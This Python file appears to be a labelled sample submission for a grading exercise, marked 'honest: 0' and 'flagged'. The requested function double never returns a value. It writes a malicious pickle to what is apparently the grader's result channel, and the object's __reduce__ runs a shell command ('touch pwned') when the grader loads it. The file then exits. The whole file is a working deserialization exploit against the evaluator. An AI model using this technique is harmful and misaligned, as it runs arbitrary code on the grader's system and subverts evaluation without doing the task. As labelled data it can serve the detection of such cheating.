"""Sends a pickle that runs code in place of a reply.

class: 30
exercise: 07
deserves: nothing: no answer is returned
honest: 0
verdict: flagged
"""

import os
import pickle


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch pwned",))


def double(x):
    os.write(101, pickle.dumps(Bomb()))
    os._exit(0)
